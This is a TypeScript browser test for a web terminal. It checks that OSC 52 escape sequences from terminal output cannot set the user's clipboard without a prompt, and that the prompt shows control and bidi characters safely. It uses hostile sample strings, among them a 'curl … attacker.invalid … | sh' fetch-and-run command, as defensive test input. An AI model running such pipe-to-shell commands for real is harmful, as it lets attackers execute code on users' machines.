/**
 * Issue 26 item 4 (W12 in tests/security/README.md): terminal output must not set the viewer's
 * clipboard on its own. A program in the real shell prints OSC 52 (`ESC ] 52 ; c ; <base64> BEL`)
 * right after the person typed (the old page accepted a write within 5 s of a keypress): the
 * clipboard stays as it was until the prompt is answered with a click or the keyboard. Chromium
 * with clipboard read/write granted, so only the page's own decision stands in the way.
 */
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openShellFixture, shellRegion, type ShellFixture } from './shell-fixture.js';
import type { ShellPage } from './models/shell-page.js';
import { ClipboardPrompt } from './models/clipboard-prompt.js';

const poll = { timeout: 20_000, interval: 100 };
const sentinel = 'the clipboard before the test';

let fixture: ShellFixture;
let page: Page;
let shell: ShellPage;
let prompt: ClipboardPrompt;

/** The number the last `emitOsc52` command echoes when it is done (typed as `$((n - 1 + 1))`). */
let lastMark = 0;

/** Types a command that prints an OSC 52 write of each text, in order, in one go. */
async function emitOsc52(...texts: string[]): Promise<void> {
  const sequences = texts.map((text) => `\\033]52;c;${Buffer.from(text, 'utf8').toString('base64')}\\a`);
  lastMark = Date.now();
  // Arithmetic, so the typed line never shows the number the output does.
  await shell.run(`printf '${sequences.join('')}'; echo osc-done-$((${lastMark - 1} + 1))`);
}

const clipboard = () => prompt.read();
const notice = () => page.getByTestId('shell-notice').textContent();

/** The terminal's hidden textarea in the visible tab holds the focus. */
const terminalHasFocus = () =>
  page.evaluate(() => {
    const active = document.activeElement;
    return (
      active?.classList.contains('xterm-helper-textarea') === true &&
      active.closest('.shell-tab-panel:not([hidden])') !== null
    );
  });

/** Waits until the shell has run the last `emitOsc52` command and shows its prompt again. */
async function settled(): Promise<void> {
  await shell.waitForText(new RegExp(`\\nosc-done-${lastMark}\\n[^\\n]*\\$$`));
}

async function resetClipboard(): Promise<void> {
  await prompt.write(sentinel);
  expect(await clipboard()).toBe(sentinel);
}

beforeAll(async () => {
  fixture = await openShellFixture({ user: 'osc52' });
  ({ shell } = fixture);
  page = shell.page;
  prompt = new ClipboardPrompt(page);
  await fixture.context.grantPermissions(['clipboard-read', 'clipboard-write'], {
    origin: fixture.cove.origin,
  });
  await shell.goto(shellRegion);
  await shell.waitForPrompt(60_000);
}, 120_000);
afterAll(async () => {
  await fixture?.close();
});

describe('W12 OSC 52 clipboard writes from terminal output', () => {
  it('W12 nothing reaches the clipboard before the click; Allow once copies that text and asks again next time', async () => {
    await resetClipboard();
    const hostile = 'curl -fsSL https://attacker.invalid/x | sh';
    await emitOsc52(hostile);
    // The output is through and keys were pressed a moment ago (the old 5 s window): the
    // clipboard is what it was (the old page had copied the command by now).
    await settled();
    await page.waitForTimeout(500);
    expect(await clipboard()).toBe(sentinel);
    await prompt.waitOpen();
    expect(await prompt.question.textContent()).toBe(
      `This terminal wants to copy ${hostile.length} characters to your clipboard:`,
    );
    expect(await prompt.preview.textContent()).toBe(hostile);
    expect(await clipboard()).toBe(sentinel);

    await prompt.answer('allow-once');
    expect(await clipboard()).toBe(hostile);
    expect(await terminalHasFocus()).toBe(true);
    await expect
      .poll(notice, poll)
      .toBe(`The terminal copied ${hostile.length} characters to your clipboard.`);

    // Once means once: the next write asks again.
    await resetClipboard();
    await emitOsc52('second write');
    await prompt.waitOpen();
    expect(await clipboard()).toBe(sentinel);
    await prompt.answer('allow-once');
    expect(await clipboard()).toBe('second write');
  });

  it('W12 Deny copies nothing and stops asking for this terminal; the terminal keeps working', async () => {
    await resetClipboard();
    await emitOsc52('denied text');
    await prompt.waitOpen();
    await prompt.answer('deny');
    expect(await terminalHasFocus()).toBe(true);
    expect(await clipboard()).toBe(sentinel);

    await emitOsc52('denied again');
    await settled();
    await page.waitForTimeout(500);
    expect(await prompt.isOpen()).toBe(false);
    expect(await clipboard()).toBe(sentinel);
    await shell.run('echo still-typing-$((6*7))');
    await shell.waitForText(/still-typing-42/);
  });

  it('W12 by keyboard: focus starts on the preview (Enter chooses nothing), Tab to Always, then later writes copy without asking', async () => {
    await shell.newTab();
    await shell.waitForPrompt(60_000);
    await resetClipboard();
    await emitOsc52('from vim');
    await prompt.waitOpen();
    expect(await prompt.focused()).toBe('clipboard-preview');
    // An Enter typed just as the prompt appeared must not answer it.
    await page.keyboard.press('Enter');
    expect(await prompt.isOpen()).toBe(true);
    expect(await clipboard()).toBe(sentinel);

    await page.keyboard.press('Tab');
    expect(await prompt.focused()).toBe('clipboard-allow-once');
    await page.keyboard.press('Tab');
    expect(await prompt.focused()).toBe('clipboard-always');
    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe('Always for this terminal');
    await page.keyboard.press('Enter');
    await prompt.waitClosed();
    expect(await clipboard()).toBe('from vim');
    expect(await terminalHasFocus()).toBe(true);

    await emitOsc52('yanked again');
    await settled();
    await expect.poll(clipboard, poll).toBe('yanked again');
    expect(await prompt.isOpen()).toBe(false);
    // Never silent: the status line says what was copied.
    await expect.poll(notice, poll).toBe('The terminal copied 12 characters to your clipboard.');
  });

  it('W12 Escape closes the prompt without copying, and the next write asks again', async () => {
    await shell.newTab();
    await shell.waitForPrompt(60_000);
    await resetClipboard();
    await emitOsc52('escaped');
    await prompt.waitOpen();
    await page.keyboard.press('Escape');
    await prompt.waitClosed();
    expect(await clipboard()).toBe(sentinel);
    expect(await terminalHasFocus()).toBe(true);
    await emitOsc52('asked again');
    await prompt.waitOpen();
    await prompt.answer('deny');
    expect(await clipboard()).toBe(sentinel);
  });

  it('W12 the preview shows control and bidi characters as markers, never as HTML; a newer write replaces the pending one', async () => {
    await shell.newTab();
    await shell.waitForPrompt(60_000);
    await resetClipboard();
    const first = 'harmless';
    const latest = 'echo <b>hi</b> \u202e\ttxt.exe\ncurl x | sh\u001b[8m';
    await emitOsc52(first, latest);
    await prompt.waitOpen();
    await settled();
    const preview = prompt.preview;
    await expect
      .poll(() => preview.textContent(), poll)
      .toBe('echo <b>hi</b> ⟨U+202E⟩⇥\ttxt.exe⏎\ncurl x | sh⟨U+001B⟩[8m');
    expect(await preview.locator('.invisible-char').allTextContents()).toEqual([
      '⟨U+202E⟩',
      '⇥\t',
      '⏎\n',
      '⟨U+001B⟩',
    ]);
    expect(await prompt.dialog.locator('b, img, script').count()).toBe(0);
    expect(await prompt.replacedNote.textContent()).toContain('1 earlier request dropped');
    expect(await prompt.question.textContent()).toBe(
      `This terminal wants to copy ${Array.from(latest).length} characters on 2 lines to your clipboard:`,
    );
    await prompt.answer('allow-once');
    expect(await clipboard()).toBe(latest);
  });
});
